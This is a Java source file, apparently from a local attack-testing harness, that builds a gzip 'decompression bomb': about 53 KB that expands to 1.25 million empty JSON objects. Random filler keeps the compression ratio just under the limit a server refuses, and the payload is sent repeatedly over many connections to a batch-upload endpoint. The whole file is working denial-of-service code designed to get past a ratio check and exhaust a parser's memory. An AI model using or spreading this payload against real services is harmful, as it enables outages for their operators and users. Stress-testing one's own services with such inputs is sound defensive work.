package dev.jankline.local.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.jankline.local.attack.Attack.Bytes;
import java.util.List;
import java.util.SplittableRandom;

/**
 * 53 KB of gzip that unpack, below the ratio that is refused, to a million empty JSON objects and
 * filler: every object costs a parser that keeps what it reads many times its three bytes.
 */
final class EmptyEvents {
  private static final int OBJECTS = 1_250_000;
  private static final int FILLER_BYTES = 64_000;
  private static final long SEED = 7;

  private EmptyEvents() {}

  static Attack of(int connections, String deviceKey) {
    String start = "{\"events\":[" + "{},".repeat(OBJECTS) + "{}],\"filler\":\"";
    byte[] gzip = Requests.gzip(start.getBytes(US_ASCII), filler(), "\"}".getBytes(US_ASCII));
    Bytes request = Requests.packed(deviceKey, Requests.JSON, gzip);
    return Attack.repeated("empty-events", Attack.Door.BATCHES, connections, List.of(request));
  }

  /** Text that does not pack well, so that the whole stays below the ratio. */
  private static byte[] filler() {
    byte[] filler = new byte[FILLER_BYTES];
    SplittableRandom random = new SplittableRandom(SEED);
    for (int i = 0; i < filler.length; i++) {
      filler[i] = (byte) random.nextInt('0', 'Z');
    }
    return filler;
  }
}
